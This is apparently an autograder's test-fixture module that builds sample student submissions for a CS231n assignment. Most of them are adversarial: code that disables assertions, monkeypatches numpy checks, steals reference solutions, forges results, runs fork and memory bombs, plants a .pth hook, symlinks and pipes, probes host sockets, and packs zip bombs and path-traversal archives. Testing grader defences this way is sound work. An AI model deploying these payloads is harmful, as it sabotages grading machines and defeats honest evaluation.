"""Sample submissions made from the release: honest ones, one with a single bug, and an adversarial set.

Each builder returns the files of a submission (archive path to bytes); :func:`write` packs them the way
``collectSubmission.sh`` does. The reference submission is the one ``make demo`` grades
(:func:`instructor.demo.reference_files`: every answer cell filled in, the reference classifiers).
Most adversarial submissions hold only ``svm.ipynb`` (the other notebooks then count as not submitted) to
keep the suite fast; they start from ``honest_wrong``: the reference with ``svm_loss_vectorized`` left
unimplemented and the notebook as released, and each adds one way of trying to get its points anyway.
``forged_results`` answers like the reference but forges what its computed answers report.

The attacks on the grading machine (:class:`Targets`) know the host's paths, ports and sockets, as an
attacker who has read this repository would: they are told where the checkout, the course, the other
submissions, a second copy of the course and a root-only file are, and try everything on them.
"""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

from cs231n.course import NOTEBOOKS, STUDENT_MODULES
from cs231n.report import PREFIX
from cs231n.submission import write_zip
from instructor.demo import reference_files
from instructor.course import REPO_ROOT as REPO

MODULES = tuple(Path(path).stem for path in STUDENT_MODULES)

# The one-character kind of bug students make: the correct class gets +count instead of -count.
VECTORIZED_BUG = ("coefficients[rows, y] = -coefficients.sum(axis=1)", "coefficients[rows, y] = coefficients.sum(axis=1)")

UNIMPLEMENTED_VECTORIZED = '''

def svm_loss_vectorized(W, X, y, reg):
    raise NotImplementedError("not done yet")
'''

# Kernel tampering: every later cell runs inside try/except, so no test can fail; asserts become no-ops.
REWRITE_ASSERT = '''
try:
    import ast as _ast
    import IPython as _IPython

    _shell = _IPython.get_ipython()
    if _shell is not None:
        class _NoFailures(_ast.NodeTransformer):
            def visit_Assert(self, node):
                return _ast.Pass()

            def visit_Module(self, node):
                self.generic_visit(node)
                handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
                node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
                return _ast.fix_missing_locations(node)

        _shell.ast_transformers.append(_NoFailures())
except Exception:
    pass
'''

# Monkeypatch numpy's comparisons, the gradient checker and the hidden checks before they are imported.
MONKEYPATCH = '''
import sys as _sys
import types as _types

import numpy as _np

_np.allclose = lambda *args, **kwargs: True
_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
_np.testing.assert_allclose = lambda *args, **kwargs: None
_np.linalg.norm = lambda *args, **kwargs: 0.0
import cs231n.gradient_check as _gc

_gc.grad_check_sparse = lambda *args, **kwargs: _np.zeros(kwargs.get("num_checks", 10))
_fake = _types.ModuleType("hidden_checks")
_fake.check = lambda name: None
_sys.modules["hidden_checks"] = _fake


def svm_loss_vectorized(W, X, y, reg):
    loss, _ = svm_loss_naive(W, X, y, reg)
    return loss, _np.zeros_like(W)
'''

# While graded (NBGRADER_EXECUTION is set in the kernel), find the reference on disk and use it.
READ_REFERENCE = '''
import os as _os

if _os.environ.get("NBGRADER_EXECUTION"):
    import importlib.util as _util
    from pathlib import Path as _Path

    _places = [_Path.cwd(), *_Path.cwd().parents, _Path(__file__).resolve().parent, *_Path(__file__).resolve().parents]
    _candidates = [p / "solutions" / "cs231n" / "classifiers" / "linear_svm.py" for p in _places]
    _candidates += [p / "reference" / "linear_svm.py" for p in _places]
    if _os.environ.get("CS231N_REFERENCE_DIR"):
        _candidates.insert(0, _Path(_os.environ["CS231N_REFERENCE_DIR"]) / "linear_svm.py")
    for _path in _candidates:
        if _path.is_file():
            _spec = _util.spec_from_file_location(__name__.rpartition(".")[0] + "._found", _path)
            _found = _util.module_from_spec(_spec)
            _spec.loader.exec_module(_found)
            svm_loss_vectorized = _found.svm_loss_vectorized
            break
'''

# At import, copy the reference out of solutions/ wherever it can be reached from the interpreter,
# the working folder or this file.
COPY_SOLUTIONS = '''
import sys as _sys
from pathlib import Path as _Path

_roots = {_Path(_sys.executable).resolve(), _Path(_sys.prefix).resolve(), _Path.cwd(), _Path(__file__).resolve()}
for _root in sorted(_roots):
    for _parent in [_root, *_root.parents]:
        _reference = _parent / "solutions" / "cs231n" / "classifiers" / "linear_svm.py"
        if _reference.is_file():
            _code = _reference.read_text().replace("from .input_checks", "from cs231n.classifiers.input_checks")
            exec(compile(_code, "copied", "exec"), globals())
            break
'''

# Right only when called from a notebook cell (the visible tests), wrong for the hidden checks.
SPECIAL_CASE = '''
import inspect as _inspect

import numpy as _np


def svm_loss_vectorized(W, X, y, reg):
    caller = _inspect.stack()[1].filename
    if "ipykernel" in caller or caller.startswith("<ipython"):
        return svm_loss_naive(W, X, y, reg)
    return 0.0, _np.zeros_like(W)
'''

HANG = '''
import signal as _signal


def svm_loss_naive(W, X, y, reg):
    _signal.signal(_signal.SIGINT, _signal.SIG_IGN)  # ignore the grader's interrupt too
    while True:
        pass
'''

EXIT = '''
import os as _os


def svm_loss_naive(W, X, y, reg):
    _os._exit(0)
'''

MEMORY_BOMB = '''
import numpy as _np


def svm_loss_naive(W, X, y, reg):
    hog = _np.ones(30 * 2**30 // 8)  # 30 GB
    return float(hog.sum()), _np.zeros_like(W)
'''

FORK_BOMB = '''
import os as _os
import time as _time


def svm_loss_naive(W, X, y, reg):
    while True:
        try:
            if _os.fork() == 0:
                _time.sleep(600)
                _os._exit(0)
        except OSError:
            raise RuntimeError("no more processes")
'''

HARMLESS_WARNING = '''
import warnings as _warnings

_correct_naive = svm_loss_naive


def svm_loss_naive(W, X, y, reg):
    _warnings.warn("a harmless warning on stderr", RuntimeWarning)
    return _correct_naive(W, X, y, reg)
'''


@dataclasses.dataclass
class Targets:
    """What the attacks aim at on the grading machine (host paths and addresses)."""

    repo: str  # the grading checkout, with solutions/ and demo outputs in dist/
    course: str  # the batch's source course (nbgrader config, source notebooks, hidden checks)
    grading: str  # the batch's grading folder (gradebook, other students' graded work, feedback)
    submissions: str  # the folder of every student's zip
    course_copy: str  # another copy of the course elsewhere on the machine
    secret: str  # a root-only file
    venv_site: str  # the grader's site-packages, where a .pth would run as the grader
    tcp_port: int  # a service on the host's loopback
    unix_socket: str  # a service on a file-system Unix socket
    abstract_socket: str  # a service on an abstract Unix socket
    stash: str  # a name to leave things under for a later submission


# Everything one submission can try from inside: find the reference or instructor files anywhere (the
# known paths first, then the whole visible tree), reach the host's services, and write where the grader
# or the instructor would read. What it finds it prints (it would reach the student's own feedback) and
# uses. The markers are built at run time so that this file itself never matches them.
EXPLORE = """
import os as _os
import socket as _socket
import sys as _sys
import time as _time
import zipfile as _zipfile

_T = {targets!r}
_MARKERS = ("BEGIN " + "SOLUTION", "BEGIN " + "HIDDEN TESTS", "def " + "cases(", "CS231N_REFERENCE" + "_DIR")
_SKIP = {{"/proc", "/sys", "/dev", "/usr", _os.path.realpath(_sys.prefix), _os.path.realpath(_sys.base_prefix)}}
# Copies of this submission's own modules (built from the reference, fences included) are not loot.
_HERE = _os.path.dirname(_os.path.abspath(__file__))
_OWN = set()
for _name in _os.listdir(_HERE):
    if _name.endswith(".py"):
        with open(_os.path.join(_HERE, _name), errors="replace") as _handle:
            _OWN.add(_handle.read())


def _explore():
    found, reference, deadline = [], None, _time.monotonic() + 5
    for root in [_T["repo"], _T["course"], _T["grading"], _T["submissions"], _T["course_copy"], "/"]:
        for folder, dirs, files in _os.walk(root):
            dirs[:] = [d for d in dirs if _os.path.join(folder, d) not in _SKIP and d not in (".venv", ".git")]
            for name in files:
                if _time.monotonic() > deadline:
                    return found, reference
                path = _os.path.join(folder, name)
                try:
                    if name.endswith(".zip"):
                        with _zipfile.ZipFile(path) as archive:
                            texts = [archive.read(n).decode(errors="replace") for n in archive.namelist() if n.endswith("linear_svm.py")]
                    elif _os.path.getsize(path) < (4 << 20):
                        with open(path, "rb") as handle:
                            texts = [handle.read().decode(errors="replace")]
                    else:
                        continue
                except (OSError, ValueError, _zipfile.BadZipFile):
                    continue
                for text in texts:
                    if text in _OWN:
                        continue
                    if any(marker in text for marker in _MARKERS) or (name.endswith(".zip") and "svm_loss_vectorized" in text):
                        found.append(path)
                        print("INSTRUCTOR FILE", path, text[:3000])
                        if "def svm_loss_vectorized" in text and "not done yet" not in text:
                            reference = reference or text
    return found, reference


def _reach_out():
    reached = []
    for label, family, address in [("tcp", _socket.AF_INET, ("127.0.0.1", _T["tcp_port"])),
                                   ("unix", _socket.AF_UNIX, _T["unix_socket"]),
                                   ("abstract", _socket.AF_UNIX, _T["abstract_socket"])]:
        try:
            connection = _socket.socket(family)
            connection.settimeout(2)
            connection.connect(address)
            connection.sendall(b"let me in")
            reached.append(label)
        except OSError:
            pass
    return reached


def _write_everywhere():
    written = []
    attempts = [
        (_os.path.join(_T["venv_site"], "cs231n_grader_hook.pth"), "import os; os.system('touch /tmp/owned')"),
        (_os.path.join(_T["repo"], "solutions", "cs231n", "classifiers", "linear_svm.py"), "# changed by a student"),
        (_os.path.join(_T["grading"], "gradebook.db"), "not a gradebook any more"),
        (_T["secret"], "overwritten"),
    ]
    for path, text in attempts:
        try:
            with open(path, "a") as handle:
                handle.write(text)
            written.append(path)
        except OSError:
            pass
    for folder in (_os.path.expanduser("~"), "/tmp"):  # (links in the working folder: attack_plants_links)
        for target in (_T["secret"], _T["venv_site"], _os.path.join(_T["repo"], "solutions")):
            try:
                _os.symlink(target, _os.path.join(folder, "link-" + str(abs(hash(target)))))
            except OSError:
                pass
    return written


_found, _reference = _explore()
print("instructor material found:", len(_found))
print("host services reached:", _reach_out())
print("host files written:", _write_everywhere())
if _reference is not None:
    exec(compile(_reference.replace("from .input_checks", "from cs231n.classifiers.input_checks"), "found", "exec"), globals())
"""

# Loops called "vectorized": correct outputs, and nothing in the outputs shows the loop.
VECTORIZED_LOOPS_SVM = """

def svm_loss_vectorized(W, X, y, reg):
    return svm_loss_naive(W, X, y, reg)
"""
VECTORIZED_LOOPS_SOFTMAX = """

def softmax_loss_vectorized(W, X, y, reg):
    return softmax_loss_naive(W, X, y, reg)
"""
VECTORIZED_LOOPS_KNN = """

KNearestNeighbor.compute_distances_no_loops = KNearestNeighbor.compute_distances_one_loop
"""

# The same loop, with processes that keep every core busy except while its own answer is being timed, so
# that the reference, timed in between, looks slow on the wall clock.
BUSY_WHILE_THE_REFERENCE_IS_TIMED = """
import os as _os
import signal as _signal
import sys as _sys

_spinners = []
if _sys.argv and _sys.argv[0].endswith("run_hidden.py"):
    for _ in range(6):
        _pid = _os.fork()
        if _pid == 0:
            while True:
                pass
        _spinners.append(_pid)


def svm_loss_vectorized(W, X, y, reg):
    for pid in _spinners:
        _os.kill(pid, _signal.SIGSTOP)
    try:
        return svm_loss_naive(W, X, y, reg)
    finally:
        for pid in _spinners:
            _os.kill(pid, _signal.SIGCONT)
"""

# Leaves the (correct) reference code wherever it can write, for a later submission to pick up.
STASH_WRITER = """
import os as _os
from pathlib import Path as _Path

_code = _Path(__file__).read_text()
for _folder in ("/tmp", "/dev/shm", _os.path.expanduser("~"), _os.getcwd(), {course!r}, {grading!r}, {submissions!r}):
    try:
        _Path(_folder, {stash!r}).write_text(_code)
    except OSError:
        pass
"""
STASH_READER = """
import os as _os
from pathlib import Path as _Path

for _folder in ("/tmp", "/dev/shm", _os.path.expanduser("~"), _os.getcwd(), {course!r}, {grading!r}, {submissions!r}):
    _path = _Path(_folder, {stash!r})
    if _path.is_file():
        print("found a stash in", _folder)
        exec(compile(_path.read_text().replace("from .input_checks", "from cs231n.classifiers.input_checks"), "stash", "exec"), globals())
        break
"""

# Links at every path the grading driver writes or reads, pointing at the grader's secrets and files.
PLANT_LINKS = """
import os as _os

_targets = [{secret!r}, {venv_site!r} + "/cs231n_grader_hook.pth", {repo!r} + "/solutions/cs231n/classifiers/linear_svm.py",
            "/etc/ld.so.cache"]
_folder = "/tmp/course/autograded/" + {student!r} + "/assignment1"
_os.makedirs(_folder, exist_ok=True)
for _index, _name in enumerate(("knn.ipynb", "svm.ipynb", "softmax.ipynb", "timestamp.txt")):
    _path = _os.path.join(_folder, _name)
    try:
        if _os.path.lexists(_path):
            _os.unlink(_path)
        _os.symlink(_targets[_index % len(_targets)], _path)
    except OSError:
        pass
for _folder in (_os.getcwd(), _os.path.expanduser("~"), "/tmp"):
    for _index, _target in enumerate(_targets):
        try:
            _os.symlink(_target, _os.path.join(_folder, "result-%d.json" % _index))
        except OSError:
            pass
"""

# Named pipes where the grading driver writes the graded notebooks: whoever opens one to write it waits.
PLANT_PIPES = """
import os as _os

_folder = "/tmp/course/autograded/" + {student!r} + "/assignment1"
_os.makedirs(_folder, exist_ok=True)
for _name in ("knn.ipynb", "svm.ipynb", "softmax.ipynb"):
    _path = _os.path.join(_folder, _name)
    try:
        if _os.path.lexists(_path):
            _os.unlink(_path)
        _os.mkfifo(_path)
    except OSError:
        pass
"""

# In the process that answers the hidden cases: write into the grader's channel directly, a header that
# claims 8 TB for dW, and bytes of an .npz bomb, instead of honest answers.
LIE_TO_THE_GRADER = """
import os as _os
import stat as _stat
import struct as _struct
import sys as _sys
import json as _json


def _channels():
    for fd in range(3, 64):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


def _lie(payload):
    if _sys.argv and _sys.argv[0].endswith("run_hidden.py"):
        for fd in _channels():
            try:
                _os.write(fd, payload)
            except OSError:
                pass


_correct_naive, _correct_vectorized = svm_loss_naive, svm_loss_vectorized


def svm_loss_naive(W, X, y, reg):
    _lie(b"PK\x03\x04" + bytes(1 << 20))  # the start of an .npz: a zip that inflates to gigabytes
    return _correct_naive(W, X, y, reg)


def svm_loss_vectorized(W, X, y, reg):
    header = _json.dumps({"ok": True, "arrays": [["loss", "<f8", []], ["dW", "<f8", [1 << 40]]]}).encode()
    _lie(b"CSF1" + _struct.pack(">I", len(header)) + header)
    return _correct_vectorized(W, X, y, reg)
"""

# Every process holds a big block of memory: each under the per-process cap, all together far over the
# submission's.
MEMORY_CHILDREN = """
import os as _os
import time as _time

_correct_naive = svm_loss_naive


def svm_loss_naive(W, X, y, reg):
    children = []
    for _ in range(4):
        pid = _os.fork()
        if pid == 0:
            import numpy
            block = numpy.ones(1200 * 2**20 // 8)
            _time.sleep(3)
            _os._exit(0)
        children.append(pid)
    for pid in children:
        _os.waitpid(pid, 0)
    return _correct_naive(W, X, y, reg)
"""

PRINT_A_LOT = """
import sys as _sys

_sys.stdout.write("all work and no play " * (100 * 2**20 // 21))
_sys.stdout.flush()
"""


# Computed answers that report what was never computed, each with the kernel's own test passing. kNN: an
# honest cross-validation, then the k with the lowest mean as best k, the notebook's check of it switched off.
WORST_K = """
import cs231n.report as _report

_report.check_best_k = lambda best_k, results: int(best_k)
best_k = min(sorted(k_to_accuracies), key=lambda k: np.mean(k_to_accuracies[k]))
"""
# SVM: an honest search, but a print that rewrites the results line into a perfect search.
FORGED_SEARCH_LINE = f"""
import json as _json

_print = print


def print(*args, **kwargs):
    if args and isinstance(args[0], str) and args[0].startswith({PREFIX!r}):
        payload = _json.loads(args[0][len({PREFIX!r}):])
        payload["results"] = [[lr, reg, 0.99, 0.99] for lr, reg, _, _ in payload["results"]]
        args = ({PREFIX!r} + _json.dumps(payload),) + args[1:]
    _print(*args, **kwargs)
"""
# Softmax: no training at all, made-up accuracies of the right shape.
MADE_UP_SEARCH = """results = {(lr, reg): (0.5, 0.45) for lr in learning_rates for reg in regularization_strengths}
"""


def reference_modules() -> dict[str, bytes]:
    return {
        f"cs231n/classifiers/{m}.py": (REPO / "solutions" / "cs231n" / "classifiers" / f"{m}.py").read_bytes()
        for m in MODULES
    }


def stub_modules() -> dict[str, bytes]:
    return {f"cs231n/classifiers/{m}.py": (REPO / "cs231n" / "classifiers" / f"{m}.py").read_bytes() for m in MODULES}


def notebooks(release: dict[str, str], names=NOTEBOOKS) -> dict[str, bytes]:
    return {f"assignment1/{name}.ipynb": release[name].encode() for name in names}


def answered(release: dict[str, str], names=NOTEBOOKS) -> dict[str, bytes]:
    """The notebooks of the reference submission: every answer cell filled in."""
    files = reference_files(release)
    return {f"assignment1/{name}.ipynb": files[f"assignment1/{name}.ipynb"] for name in names}


def with_answer(notebook: bytes, answer_id: str, code: str, replace: bool = False) -> bytes:
    """``notebook`` with ``code`` appended to its answer cell ``answer_id`` (or in place of its code)."""
    parsed = json.loads(notebook)
    (cell,) = [c for c in parsed["cells"] if grade_id(c) == answer_id]
    cell["source"] = code if replace else "".join(cell["source"]) + "\n" + code
    return json.dumps(parsed).encode()


def with_svm(modules: dict[str, bytes], *additions: str) -> dict[str, bytes]:
    """``modules`` with text appended to ``linear_svm.py`` (later definitions replace earlier ones)."""
    changed = dict(modules)
    key = "cs231n/classifiers/linear_svm.py"
    changed[key] = changed[key] + "".join(additions).encode()
    return changed


def edit_cells(text: str, edit) -> bytes:
    """Apply ``edit(cells) -> cells`` to a notebook's JSON cell list."""
    notebook = json.loads(text)
    notebook["cells"] = edit(notebook["cells"])
    return json.dumps(notebook).encode()


def grade_id(cell: dict) -> str:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")


def gut_tests(cells):
    for cell in cells:
        if grade_id(cell).startswith(("test_", "hidden_")):
            cell["source"] = "pass  # tests? what tests?"
            cell["metadata"]["nbgrader"]["points"] = 1000
    return cells


def delete_vectorized_tests(cells):
    return [c for c in cells if grade_id(c) not in ("test_svm_loss_vectorized", "hidden_svm_loss_vectorized")]


def add_tampering_cell(cells):
    """A new cell right after the set-up that swallows every later failure (it never reaches grading)."""
    code = "import IPython\nIPython.get_ipython().ast_transformers.append(None)  # added by the student\n"
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": code + REWRITE_ASSERT}
    return cells[:2] + [cell] + cells[2:]


def with_module(modules: dict[str, bytes], module: str, *additions: str) -> dict[str, bytes]:
    changed = dict(modules)
    key = f"cs231n/classifiers/{module}.py"
    changed[key] = changed[key] + "".join(additions).encode()
    return changed


def attacks(release: dict[str, str], targets: Targets) -> dict[str, dict[str, bytes]]:
    """Submissions that attack the grading machine or try to get points they did not earn."""
    reference = reference_modules()
    svm_only = notebooks(release, ["svm"])
    honest_wrong = with_svm(reference, UNIMPLEMENTED_VECTORIZED)
    paths = {key: value for key, value in dataclasses.asdict(targets).items()}
    loops = with_module(with_module(with_svm(reference, VECTORIZED_LOOPS_SVM), "softmax", VECTORIZED_LOOPS_SOFTMAX),
                        "k_nearest_neighbor", VECTORIZED_LOOPS_KNN)
    return {
        "attack_explores": svm_only | with_svm(honest_wrong, EXPLORE.format(targets=paths)),
        "attack_vectorized_loops": svm_only | loops,
        "attack_busy_while_timed": svm_only | with_svm(reference, BUSY_WHILE_THE_REFERENCE_IS_TIMED),
        "attack_stash_writer": svm_only | with_svm(reference, STASH_WRITER.format(**paths)),
        "attack_plants_links": svm_only | with_svm(honest_wrong, PLANT_LINKS.format(student="attack_plants_links", **paths)),
        "attack_lies_to_the_grader": svm_only | with_svm(reference, LIE_TO_THE_GRADER),
        "attack_memory_children": svm_only | with_svm(reference, MEMORY_CHILDREN),
        "attack_prints_a_lot": svm_only | with_svm(honest_wrong, PRINT_A_LOT),
    }


def stash_reader(release: dict[str, str], targets: Targets) -> dict[str, bytes]:
    """The submission that looks for what ``attack_stash_writer`` left behind (graded in a later run)."""
    paths = dataclasses.asdict(targets)
    return notebooks(release, ["svm"]) | with_svm(with_svm(reference_modules(), UNIMPLEMENTED_VECTORIZED),
                                                  STASH_READER.format(**paths))


def pipe_planter(release: dict[str, str], student: str) -> dict[str, bytes]:
    """Named pipes at the graded notebooks' paths (graded in a batch of its own, with a short budget)."""
    honest_wrong = with_svm(reference_modules(), UNIMPLEMENTED_VECTORIZED)
    return notebooks(release, ["svm"]) | with_svm(honest_wrong, PLANT_PIPES.format(student=student))


def write_zip_bomb(path: Path, inflated_bytes: int = 256 << 20) -> Path:
    """A zip whose svm.ipynb inflates to ``inflated_bytes`` of zeros (about a thousandth of that packed)."""
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("assignment1/svm.ipynb", "w", force_zip64=True) as member:
            block = bytes(1 << 20)
            for _ in range(inflated_bytes >> 20):
                member.write(block)
    return path


def build(release: dict[str, str]) -> dict[str, dict[str, bytes]]:
    """Every sample submission by student id (the corrupt and traversal ones are written by :func:`write`)."""
    reference = reference_modules()
    svm_only = notebooks(release, ["svm"])
    honest_wrong = with_svm(reference, UNIMPLEMENTED_VECTORIZED)
    bugged = dict(reference)
    text = bugged["cs231n/classifiers/linear_svm.py"].decode()
    assert text.count(VECTORIZED_BUG[0]) == 1, "the reference changed: update VECTORIZED_BUG"
    bugged["cs231n/classifiers/linear_svm.py"] = text.replace(*VECTORIZED_BUG).encode()
    missing_module = dict(reference)
    del missing_module["cs231n/classifiers/linear_svm.py"]
    honest = answered(release)
    forged = honest | {
        "assignment1/knn.ipynb": with_answer(honest["assignment1/knn.ipynb"], "choose_best_k", WORST_K, replace=True),
        "assignment1/svm.ipynb": with_answer(honest["assignment1/svm.ipynb"], "search_loop", FORGED_SEARCH_LINE),
        "assignment1/softmax.ipynb": with_answer(honest["assignment1/softmax.ipynb"], "search_loop", MADE_UP_SEARCH,
                                                 replace=True),
        # The networks: honest searches whose lines are rewritten on their way out, as for the SVM.
        "assignment1/two_layer_net.ipynb": with_answer(honest["assignment1/two_layer_net.ipynb"], "search_loop",
                                                       FORGED_SEARCH_LINE),
        "assignment1/features.ipynb": with_answer(honest["assignment1/features.ipynb"], "net_search_loop",
                                                  FORGED_SEARCH_LINE),
    }
    return {
        "reference": reference_files(release),
        "stubs": notebooks(release) | stub_modules(),
        "forged_results": forged | reference,
        "vectorized_bug": answered(release, ["svm"]) | bugged,
        "harmless_warning": answered(release, ["svm"]) | with_svm(reference, HARMLESS_WARNING),
        "honest_wrong": svm_only | honest_wrong,
        "cheat_edits_tests": {"assignment1/svm.ipynb": edit_cells(release["svm"], gut_tests)} | honest_wrong,
        "cheat_deletes_tests": {"assignment1/svm.ipynb": edit_cells(release["svm"], delete_vectorized_tests)} | honest_wrong,
        "cheat_adds_cell": {"assignment1/svm.ipynb": edit_cells(release["svm"], add_tampering_cell)} | honest_wrong,
        "cheat_rewrites_assert": svm_only | with_svm(honest_wrong, REWRITE_ASSERT),
        "cheat_monkeypatches": svm_only | with_svm(honest_wrong, MONKEYPATCH),
        "cheat_reads_reference": svm_only | with_svm(honest_wrong, READ_REFERENCE),
        "cheat_copies_solutions": svm_only | with_svm(honest_wrong, COPY_SOLUTIONS),
        "cheat_special_cases": svm_only | with_svm(honest_wrong, SPECIAL_CASE),
        "infinite_loop": svm_only | with_svm(reference, HANG),
        "os_exit": svm_only | with_svm(reference, EXIT),
        "memory_bomb": svm_only | with_svm(reference, MEMORY_BOMB),
        "fork_bomb": svm_only | with_svm(reference, FORK_BOMB),
        "missing_module": svm_only | missing_module,
        "not_json": {"assignment1/svm.ipynb": b'{"cells": [ this is not JSON'} | reference,
    }


def write(folder: Path, release: dict[str, str], targets: Targets | None = None) -> dict[str, Path]:
    """Write every sample zip into ``folder`` (with the attacks when ``targets`` is given); return the paths
    by student id."""
    folder.mkdir(parents=True, exist_ok=True)
    every = build(release) | (attacks(release, targets) if targets is not None else {})
    paths = {student: write_zip(files, folder / f"{student}.zip") for student, files in every.items()}
    if targets is not None:
        paths["attack_zip_bomb"] = write_zip_bomb(folder / "attack_zip_bomb.zip")
    paths["corrupt_zip"] = folder / "corrupt_zip.zip"
    data = bytearray(paths["reference"].read_bytes())
    data[len(data) // 3: len(data) // 3 + 64] = b"\xff" * 64
    paths["corrupt_zip"].write_bytes(bytes(data))
    import zipfile

    paths["path_traversal"] = folder / "path_traversal.zip"
    with zipfile.ZipFile(paths["path_traversal"], "w") as archive:
        for name, data in (answered(release, ["svm"]) | reference_modules()).items():
            archive.writestr(name, data)
        archive.writestr("../../escaped_by_traversal.py", b"print('outside')")
        archive.writestr("/tmp/escaped_absolute.py", b"print('outside')")
    return paths
